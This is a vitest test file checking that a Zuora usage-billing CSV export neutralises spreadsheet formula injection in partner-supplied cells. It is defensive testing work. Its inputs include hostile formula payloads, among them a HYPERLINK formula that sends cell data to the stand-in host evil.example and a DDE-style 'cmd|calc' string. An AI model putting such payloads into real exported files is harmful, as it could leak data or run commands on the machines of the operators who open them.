import { describe, expect, it } from 'vitest';
import { zuoraUsageCsv } from '../../../functions/usage-billing/zuora-usage.ts';
import type { SubmissionLine } from '../../../shared/db/entities/usage-billing.ts';

const line = (over: Partial<SubmissionLine> = {}): SubmissionLine => ({
  tenant: 'platform',
  subscriptionNumber: 'A-S00000001',
  chargeNumber: 'C-1',
  unit: 'GIGABYTE',
  period: '2026-11',
  accountNumber: 'A00000001',
  quantity: '12.5',
  target: '12.5',
  targetCount: 3,
  usageDate: '2026-11-20T10:00:00.000Z',
  ...over,
});

/** The cells of the first data row (no quoted commas in these samples). */
const firstRow = (csv: string) => csv.split('\r\n')[1]!.split(',');

describe('Zuora usage file: CSV / formula injection', () => {
  // A partner chooses the unit of a charge that has none configured; the file is opened by operators.
  it.each(['=HYPERLINK("http://evil.example/?x="&A1)', '+1+cmd|calc', '-2+3', '@SUM(A1)', '\tcmd'])(
    'neutralises a unit starting with a formula character: %j',
    (unit) => {
      const csv = zuoraUsageCsv({ id: 'usub_1', lines: [line({ unit })] }, 'YYYY-MM-DD');
      const row = csv.split('\r\n')[1]!;
      // The UOM cell (second) must not start with a formula trigger, quoted or not.
      const uom = row.slice(row.indexOf(',') + 1);
      expect(uom.replace(/^"/, '')).toMatch(/^'/);
      expect(uom.replace(/^"/, '')).not.toMatch(/^[=+\-@\t]/);
    },
  );

  it('neutralises every partner-derived cell, and leaves ordinary values unchanged', () => {
    const csv = zuoraUsageCsv(
      { id: 'usub_1', lines: [line({ accountNumber: '@A1', subscriptionNumber: '=S', chargeNumber: '+C' })] },
      'YYYY-MM-DD',
    );
    const cells = firstRow(csv);
    expect(cells[0]).toBe("'@A1");
    expect(cells[6]).toBe("'=S");
    expect(cells[7]).toBe("'+C");
    const plain = firstRow(zuoraUsageCsv({ id: 'usub_1', lines: [line()] }, 'YYYY-MM-DD'));
    expect(plain.slice(0, 5)).toEqual(['A00000001', 'GIGABYTE', '12.5', '2026-11-20', '2026-11-20']);
  });
});
